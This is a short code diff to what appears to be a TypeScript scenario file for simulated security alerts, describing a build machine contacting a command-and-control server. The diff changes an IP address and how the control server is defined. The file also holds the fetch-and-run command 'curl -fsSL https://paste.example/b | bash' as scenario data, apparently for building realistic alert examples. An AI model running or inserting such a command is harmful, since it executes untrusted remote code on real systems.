@@ -2,9 +2,11 @@ import { machineManagement } from '../alertTypes/machineManagement.ts';
 import { network } from '../alertTypes/network.ts';
 import { serviceLayer } from '../alertTypes/serviceLayer.ts';
 import { production } from '../directory.ts';
-import { controlServer, deployer, platformOperator } from './cast.ts';
+import { controlServerAt, deployer, platformOperator } from './cast.ts';
 import { linuxMachine, productionSubscription } from './resources.ts';
 import { story } from './story.ts';
+
+const controlServer = controlServerAt(24);
 
 const builder = linuxMachine(production, 'build', 'vm-build-05', 'westeurope');
 const line = 'curl -fsSL https://paste.example/b | bash';
@@ -55,7 +57,7 @@ export const managementChannel = story('management-channel', [
     at: '1d 06:58',
     lastSeen: 9,
     on: builder,
-    facts: { ip: '198.51.100.23' },
+    facts: { ip: '198.51.100.24' },
     details: { 'destination Port': '443', protocol: 'TCP' },
     entities: [controlServer],
   },
